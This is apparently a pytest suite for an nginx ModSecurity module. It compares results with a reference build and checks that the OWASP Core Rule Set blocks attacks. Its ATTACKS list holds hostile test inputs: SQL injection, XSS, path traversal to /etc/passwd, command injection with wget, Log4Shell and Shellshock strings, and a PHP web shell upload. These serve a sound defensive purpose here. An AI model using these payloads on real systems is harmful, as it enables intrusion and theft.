"""ModSecurity: rules that look at requests and responses, beside Debian's module where that answers; the OWASP core rule set."""

import gzip
import json
import os

import pytest

from harness import binaries, run_binary, until
from harness.h2 import H2

MODULE = "ngx_http_modsecurity_module"
CRS = "/usr/share/modsecurity-crs/rules"

BASE = """SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "(?:application(?:/soap\\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,t:none,log,deny,status:400,msg:'Failed to parse request body.'"
"""
RESPONSES = "SecResponseBodyAccess On\nSecResponseBodyMimeType text/plain text/html\n"

RULES = BASE + """SecRule ARGS "attack" "id:1,phase:2,deny,status:403,log,msg:test1"
SecRule REQUEST_HEADERS:X-Bad "@streq 1" "id:2,phase:1,deny,status:406,log"
SecRule REQUEST_HEADERS:X-Bad "@streq 2" "id:3,phase:1,redirect:http://x.y/z,log"
SecRule REQUEST_HEADERS:X-Bad "@streq 3" "id:4,phase:1,drop,log"
SecRule REQUEST_HEADERS:X-Bad "@streq 4" "id:5,phase:3,deny,status:501,log"
SecRule REQUEST_HEADERS:X-Bad "@streq 6" "id:7,phase:1,pass,log"
SecRule REQUEST_HEADERS:X-Bad "@streq 8" "id:9,phase:5,log,pass"
SecRule REQUEST_HEADERS:X-Bad "@streq 10" "id:12,phase:1,deny,nolog"
SecRule REQUEST_HEADERS:X-Bad "@streq 11" "id:13,phase:1,deny,status:200"
SecRule REQUEST_HEADERS:X-Bad "@streq 12" "id:14,phase:1,redirect:http://x.y/301,status:301"
SecRule RESPONSE_STATUS "@streq 404" "id:15,phase:3,chain,deny,status:410"
 SecRule ARGS:q "@streq z" "t:none"
SecRule RESPONSE_HEADERS:X-Leak "@streq 1" "id:16,phase:3,deny,status:502"
"""


def start(serve, http, binary=None, files=None, **how):
    binary = binary or binaries.under_test()
    main = binaries.load_module(MODULE, binary)
    if not main:
        pytest.skip("there is no libmodsecurity")
    tree = {"html/index.html": "hello\n", "html/f.txt": "some text\n", "r.conf": RULES, "base.conf": BASE}
    tree.update(files or {})
    return serve(http, files=tree, main=main + how.pop("main", ""), binary=binary, **how)


def rules(text=""):
    return "modsecurity on; modsecurity_rules_file @DIR@/r.conf;" + (" modsecurity_rules '%s';" % text if text else "")


def conf(*locations, http="", server="", more=""):
    return "%s server { listen 127.0.0.1:@PORT@; root html; client_max_body_size 64m; %s\n%s } %s" % (
        http or rules(), server, "\n".join(locations), more)


# beside Debian's

LOCATIONS = (
    "location / { }",
    "location /ret { return 200 \"ret\\n\"; }",
    "location /off { modsecurity off; alias html/; }",
    "location /own/ { modsecurity_rules 'SecRule ARGS \"mine\" \"id:100,phase:2,deny,status:402\"'; alias html/; }",
    "location /other/ { modsecurity_rules 'SecRuleEngine DetectionOnly'; alias html/; }",
    "location /page/ { error_page 403 /refused.html; alias html/; }",
    "location = /refused.html { return 200 \"custom\\n\"; }",
    "location /leak { add_header X-Leak 1; return 200 x; }",
    "location /id/ { modsecurity_transaction_id id-$arg_id; alias html/; }",
)

ASKED = [
    ("/", ()), ("/f.txt", ()), ("/nope", ()), ("/?a=attack", ()), ("/?a=att%61ck", ()), ("/f.txt?b=1&a=an+attack", ()), ("/ret?a=attack", ()),
    ("/ret", ("X-Bad: 1",)), ("/off/?a=attack", ("X-Bad: 1",)), ("/own/?a=mine", ()), ("/own/?a=attack", ()), ("/other/?a=attack", ()),
    ("/page/?a=attack", ()), ("/nope?q=z", ()), ("/leak", ()), ("/id/?id=7&a=attack", ()),
] + [("/f.txt", ("X-Bad: %d" % number,)) for number in range(1, 13)]


def both(serve, http, **how):
    return start(serve, http, **how), start(serve, http, binaries.reference(), **how)


def shown(response):
    """What has to be equal of two answers; the reference names itself on its pages."""
    body = response.body if "nginx/" not in response.text else b"a page"
    return response.status, response.header("Location"), response.header("Content-Type"), body


def test_answers_are_those_of_the_reference(serve):
    ours, theirs = both(serve, conf(*LOCATIONS))
    for target, headers in ASKED:
        for method in ("GET", "HEAD"):
            left, right = [server.client().request(target, *headers, method=method) for server in (ours, theirs)]
            assert shown(left) == shown(right), (target, headers, method)


def test_bodies_are_judged_as_by_the_reference(serve):
    ours, theirs = both(serve, conf("location / { error_page 405 =200 @ok; } location @ok { return 200 ok; }"))
    form, multi = "Content-Type: application/x-www-form-urlencoded", "Content-Type: multipart/form-data; boundary=b"
    asked = [
        (form, "a=attack"), (form, "a=fine"), (form, "a=" + "x" * 200000 + "&b=attack"), ("Content-Type: text/plain", "a=attack"),
        ("Content-Type: application/json", '{"a": {"b": ["attack"]}}'), ("Content-Type: application/json", '{"a": '),
        ("Content-Type: application/json", "[" * 5000),
        (multi, '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nattack\r\n--b--\r\n'), (multi, "--b\r\nnothing"),
        ("Content-Type: text/xml", "<a>attack</a>"), ("Content-Type: text/xml", "<a><b></a>"), (form, ""),
    ]
    for field, body in asked:
        left, right = [server.client().request("/f.txt", field, method="POST", body=body).status for server in (ours, theirs)]
        assert left == right, (field, body[:80])


def test_the_error_log_says_the_same(serve):
    ours, theirs = both(serve, conf("location / { modsecurity_transaction_id one; }"))
    lines = []
    for server in (ours, theirs):
        server.get("/f.txt?a=attack")
        server.wait_log("ModSecurity: Access denied")
        line = [text for text in server.error_log.split("\n") if "Access denied" in text][0]
        lines.append(line[line.index("[client"):line.index(", client:")].replace(server.dir, ""))
    assert lines[0].replace("[file \"", "") == lines[1].replace("[file \"", "") and "[id \"1\"]" in lines[0] and "[unique_id \"one\"]" in lines[0]


# what the reference has not

def test_what_matches_and_refuses_nothing_is_told_at_info(serve):
    server = start(serve, "error_log error.log info;" + conf("location / { }", "location /quiet/ { modsecurity_use_error_log off; alias html/; }"))
    assert server.get("/quiet/f.txt", "X-Bad: 6").status == 200
    assert server.get("/f.txt", "X-Bad: 6").status == 200
    assert server.get("/f.txt", "X-Bad: 8").status == 200
    server.wait_log(r"\[info\].*ModSecurity: Warning.*\[id \"9\"\]")
    assert server.error_log.count('[id "7"]') == 1 and "/quiet" not in server.error_log


def test_a_response_that_is_refused_is_not_begun(serve, backend):
    http = conf("location / { }", "location /page/ { error_page 403 /refused; alias html/; }", "location /refused { return 200 instead; }",
                "location /proxy { proxy_pass http://127.0.0.1:%d; }", "location ~ bin$ { default_type application/octet-stream; }",
                http=rules(RESPONSES + 'SecRule RESPONSE_BODY "secret" "id:50,phase:4,deny,status:403"\n'
                           'SecRule RESPONSE_BODY "elsewhere" "id:51,phase:4,redirect:http://x.y/"\n'))
    origin = backend([b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\nContent-Length: 9\r\n\r\na secret!"])
    server = start(serve, http % origin.port, files={
        "html/s.txt": "a secret\n", "html/s.bin": "a secret\n", "html/long.txt": "x" * 300000 + "secret", "html/e.txt": "elsewhere"})
    with server.client() as client:
        for target, status in (("/s.txt", 403), ("/f.txt", 200), ("/long.txt", 403), ("/s.bin", 200), ("/proxy", 403), ("/f.txt", 200)):
            response = client.request(target)
            assert response.status == status, target
            assert status == 200 or (b"secret" not in response.body and response.header("Set-Cookie") is None and response.header("ETag") is None)
        response = client.request("/page/s.txt")
        assert (response.status, response.body) == (403, b"instead")
        response = client.request("/e.txt")
        assert (response.status, response.header("Location")) == (302, "http://x.y/")
        assert client.request("/s.txt", method="HEAD").status == 200
        assert client.request("/f.txt").body == b"some text\n"


def test_a_long_response_passes_after_its_beginning_was_seen(serve, backend):
    limits = "SecResponseBodyLimit 10000\nSecResponseBodyLimitAction %s\n" + 'SecRule RESPONSE_BODY "secret" "id:50,phase:4,deny"\n'
    text = os.urandom(500000).hex()
    files = {"html/big.txt": text, "html/late.txt": "x" * 20000 + "secret", "html/early.txt": "secret" + "x" * 20000}
    partial = start(serve, conf(http=rules(RESPONSES + limits % "ProcessPartial")), files=files)
    assert partial.get("/big.txt").text == text
    assert partial.get("/late.txt").status == 200 and partial.get("/early.txt").status == 403
    refused = start(serve, conf(http=rules(RESPONSES + limits % "Reject")), files=files)
    assert refused.get("/big.txt").status == 403 and refused.get("/f.txt").status == 200


def test_what_is_looked_at_is_compressed_afterwards_and_has_no_parts(serve):
    server = start(serve, conf("gzip on; gzip_types text/plain; gzip_min_length 1;", "location ~ bin$ { default_type application/octet-stream; }",
                               http=rules(RESPONSES + 'SecRule RESPONSE_BODY "secret" "id:50,phase:4,deny"\n')),
                   files={"html/s.txt": "a secret\n" * 100, "html/f.bin": "0123456789"})
    assert server.get("/s.txt", "Accept-Encoding: gzip").status == 403
    assert gzip.decompress(server.get("/f.txt", "Accept-Encoding: gzip").body) == b"some text\n"
    assert server.get("/f.txt", "Range: bytes=0-3").status == 200
    assert server.get("/f.bin", "Range: bytes=0-3").body == b"0123"


def test_a_body_in_a_file_and_one_that_is_too_long(serve):
    server = start(serve, conf("location / { client_body_buffer_size 1k; proxy_request_buffering off; proxy_pass http://127.0.0.1:@PORT1@; }",
                               http=rules("SecRequestBodyLimit 100000\nSecRequestBodyLimitAction Reject"),
                               more="server { listen 127.0.0.1:@PORT1@; location / { return 200 got; } }"), allow=["."])
    form = "Content-Type: application/x-www-form-urlencoded"
    with server.client() as client:
        assert client.request("/", form, method="POST", body="a=" + "x" * 50000).body == b"got"
        assert client.request("/", form, method="POST", body="b=%s&a=attack" % ("x" * 50000)).status == 403
        assert client.request("/", form, method="POST", body="a=" + "x" * 200000).status == 403
        client.send("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n%s\r\n\r\n3\r\na=a\r\n5\r\nttack\r\n0\r\n\r\n" % form)
        assert client.response().status == 403
        client.send("POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 8\r\n%s\r\n\r\n" % form)
        client.send("a=attack")
        assert client.response().status == 403


def test_once_for_a_request(serve):
    """Redirects inside, error pages and subrequests do not begin anew."""
    server = start(serve, "error_log error.log info;" + conf(
        "location / { error_page 404 = /again; }", "location /again { rewrite ^ /f.txt last; }", "location /ssi { ssi on; default_type text/html; alias html/ssi; }",
        "location = /sub { return 200 \"sub $arg_a\"; }",
        http=rules("\n".join('SecRule REMOTE_ADDR "@rx ." "id:%d,phase:%d,pass,log"' % pair for pair in ((60, 1), (61, 2), (62, 3), (63, 5))))),
        files={"html/ssi": "<!--#include virtual=\"/sub?a=attack\" -->"})
    assert server.get("/nope").body == b"some text\n"
    until(lambda: '[id "63"]' in server.error_log)
    assert [server.error_log.count('[id "%d"]' % number) for number in (60, 61, 62, 63)] == [1, 1, 1, 1]
    assert server.get("/ssi").body == b"sub attack"


def test_http2(serve):
    server = start(serve, conf(http=rules(RESPONSES + 'SecRule RESPONSE_BODY "secret" "id:50,phase:4,deny"\n'
                                          'SecRule REQUEST_PROTOCOL "!@streq HTTP/2.0" "id:70,phase:1,deny,status:505"\n'
                                          'SecRule REQUEST_HEADERS:Host "!@streq localhost" "id:71,phase:1,deny,status:421"'), server="http2 on;"),
                   files={"html/s.txt": "secret"})
    with H2(server.port) as h2:
        assert h2.get("/f.txt").body == b"some text\n"
        assert h2.get("/f.txt?a=attack").status == 403
        assert h2.get("/s.txt").status == 403
        assert h2.get("/f.txt").body == b"some text\n"


def test_the_audit_log(serve):
    server = start(serve, conf(http=rules("SecAuditEngine RelevantOnly\nSecAuditLogRelevantStatus \"^(?:5|4(?!04))\"\nSecAuditLogParts ABFHZ\n"
                                          "SecAuditLogType Serial\nSecAuditLogFormat JSON\nSecAuditLog @DIR@/logs/audit.log")))
    server.get("/f.txt")
    server.get("/f.txt?a=attack", "X-Name: value")
    until(lambda: server.read("logs/audit.log").count("\n") == 1)
    told = json.loads(server.read("logs/audit.log"))["transaction"]
    assert told["request"]["headers"]["X-Name"] == "value" and told["request"]["uri"] == "/f.txt?a=attack"
    assert told["response"]["http_code"] == 403 and told["messages"][0]["message"] == "test1"


def test_an_aborted_upload_leaves_nothing_behind(serve):
    server = start(serve, conf(), allow=["."])
    for _ in range(50):
        with server.client() as client:
            client.send("POST /f.txt HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nabc")
            client.reset()
    assert server.get("/f.txt").status == 200


@pytest.mark.skipif("--with-sanitizer" in binaries.version_text(binaries.under_test()), reason="sanitizers keep what was freed")
def test_memory_is_flat(serve):
    server = start(serve, conf(http=rules(RESPONSES)))

    def resident():
        with open("/proc/%d/statm" % server.children()[0]) as file:
            return int(file.read().split()[1]) * 4

    def ask(count):
        with server.client() as client:
            for number in range(count):
                assert client.request("/f.txt" + ("?a=attack" if number % 2 else "")).status in (200, 403)

    ask(300)
    before = resident()
    for _ in range(4):
        ask(400)
    assert resident() < before + 6000


def test_a_reload_takes_new_rules_and_loses_no_request(serve):
    server = start(serve, conf())
    with server.client() as client:
        assert client.request("/f.txt?a=attack").status == 403
        server.write("r.conf", RULES.replace("attack", "other"))
        for _ in range(3):
            server.reload()
            assert client.request("/f.txt").status == 200
        until(lambda: server.get("/f.txt?a=attack").status == 200)
        assert server.get("/f.txt?a=other").status == 403


def test_more_than_may_wait_are_told_so(serve):
    slow = 'SecRule ARGS "(x+x+)+y" "id:80,phase:2,deny"'
    server = start(serve, conf(http=rules(slow)), main="thread_pool modsecurity threads=1 max_queue=1;", allow=["."])
    clients = [server.client() for _ in range(12)]
    body = "a=" + "x" * 30
    for client in clients:
        client.send("POST /f.txt HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    statuses = [client.response().status for client in clients]
    assert set(statuses) <= {405, 503, 403} and len(set(statuses)) > 1
    server.wait_log("too many requests wait for the rules")
    assert server.get("/f.txt").status == 200


def test_term_leaves_no_file_of_a_body_that_the_rules_look_at(serve):
    server = start(serve, conf(http=rules('SecRule ARGS "(x+x+)+y" "id:80,phase:2,pass"'), server="client_body_buffer_size 1k;"),
                   main="thread_pool modsecurity threads=2;", allow=["."])
    body = "&".join("a%d=%s" % (number, "x" * 28) for number in range(900))
    clients = [server.client() for _ in range(12)]
    for client in clients:
        client.send("POST /f.txt HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    until(lambda: len(os.listdir(server.path("body_temp"))) >= 8)
    server.stop()
    assert os.listdir(server.path("body_temp")) == []


# configuration

BAD = [
    ("modsecurity maybe;", 'it must be "on" or "off"'),
    ("modsecurity_rules 'SecRule';", '"modsecurity_rules" directive Rules error.'),
    ("modsecurity_rules 'SecAction pass';", '"modsecurity_rules" directive Rules error.'),
    ("modsecurity_rules a b;", 'invalid number of arguments in "modsecurity_rules"'),
    ("modsecurity_rules_file nope.conf;", '"modsecurity_rules_file" directive Failed to open the file: '),
    ("modsecurity_rules_remote key http://127.0.0.1:1/;", '"modsecurity_rules_remote" is not supported'),
    ("modsecurity on; modsecurity off;", '"modsecurity" directive is duplicate'),
    ("if ($uri) { modsecurity on; }", '"modsecurity" directive is not allowed here'),
]


@pytest.mark.parametrize("line, text", BAD)
def test_what_is_wrong_is_told(tmp_path, line, text):
    (tmp_path / "logs").mkdir()
    path = tmp_path / "nginx.conf"
    path.write_text("%s events {} http { server { listen 127.0.0.1:8080; location / { %s } } }" % (binaries.load_module(MODULE), line))
    done = run_binary("-t", "-p", str(tmp_path), "-c", str(path))
    assert done.returncode == 1 and text in done.stderr and "nginx.conf:1" in done.stderr


# the OWASP core rule set

CRS_CONF = BASE + RESPONSES + "SecResponseBodyLimit 524288\nSecResponseBodyLimitAction ProcessPartial\nInclude /etc/modsecurity/crs/crs-setup.conf\nInclude %s/*.conf\n" % CRS

FORM = "Content-Type: application/x-www-form-urlencoded"
JSON = "Content-Type: application/json"
MULTI = "Content-Type: multipart/form-data; boundary=b"

HARMLESS = [
    ("/", (), None), ("/f.txt?q=hello+world&page=2", (), None), ("/f.txt", ("Cookie: session=0123456789abcdef; theme=dark",), None),
    ("/f.txt?name=J%C3%BCrgen+M%C3%BCller", (), None), ("/f.txt?when=2026-11-23T10:00:00Z", (), None),
    ("/post", (FORM,), "name=Anna&comment=I+like+it"), ("/post", (JSON,), '{"user": {"name": "Anna", "tags": ["a", "b"]}}'),
    ("/post", (MULTI,), '--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nsome words\r\n--b--\r\n'),
    ("/post", ("Content-Type: text/xml",), "<order><item>book</item></order>"),
]

ATTACKS = [
    ("/f.txt?id=1%27%20OR%20%271%27=%271%27--", (), None), ("/f.txt?id=1+UNION+SELECT+user,password+FROM+users--", (), None),
    ("/f.txt?q=<script>alert(1)</script>", (), None), ("/f.txt?q=%3Cimg%20src=x%20onerror=alert(1)%3E", (), None),
    ("/f.txt?file=../../../../etc/passwd", (), None), ("/f.txt?file=http://127.0.0.1/shell.php?", (), None),
    ("/f.txt?c=;cat%20/etc/passwd", (), None), ("/f.txt?c=$(wget%20http://x/y)", (), None), ("/.git/config", (), None), ("/wp-config.php.bak~", (), None),
    ("/f.txt", ("User-Agent: sqlmap/1.7",), None), ("/f.txt", ("User-Agent: Nikto/2.5",), None),
    ("/f.txt?x=${jndi:ldap://x/a}", (), None), ("/f.txt", ("User-Agent: () { :; }; /bin/bash -c id",), None),
    ("/f.txt", ("Cookie: id=1' UNION SELECT 1,2,3--",), None), ("/f.txt", ("Referer: <script>alert(1)</script>",), None),
    ("/post", (FORM,), "id=1%27+OR+1%3D1--+-"), ("/post", (JSON,), '{"q": "<script>alert(document.cookie)</script>"}'),
    ("/post", (JSON,), '{"q": "1; DROP TABLE users; SELECT sleep(5)--"}'),
    ("/post", (MULTI,), '--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n<?php system($_GET[1]); ?>\r\n--b--\r\n'),
    ("/post", (MULTI,), '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--b--\r\n'),
    ("/post", ("Content-Type: text/xml",), "<a>; cat /etc/passwd</a>"), ("/post", (JSON,), '{"q": '),
]


def test_the_core_rule_set(serve):
    if not os.path.isdir(CRS):
        pytest.skip("there is no core rule set")
    server = start(serve, conf("location / { }", "location /post { proxy_pass http://127.0.0.1:@PORT1@; }", http=rules(),
                               more="server { listen 127.0.0.1:@PORT1@; modsecurity off; location / { return 200 got; } }"),
                   files={"r.conf": CRS_CONF, "html/leak.html": "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"})

    def ask(target, headers, body):
        usual = ("Accept: */*",) + (() if any(text.startswith("User-Agent:") for text in headers) else ("User-Agent: Mozilla/5.0 (X11; Linux)",))
        return server.client().request(target, *usual, *headers, method="GET" if body is None else "POST", host="example.com", body=body).status

    for target, headers, body in HARMLESS:
        assert ask(target, headers, body) == 200, (target, headers, body)
    for target, headers, body in ATTACKS:
        assert ask(target, headers, body) in (400, 403), (target, headers, body)
    assert ask("/leak.html", (), None) == 403
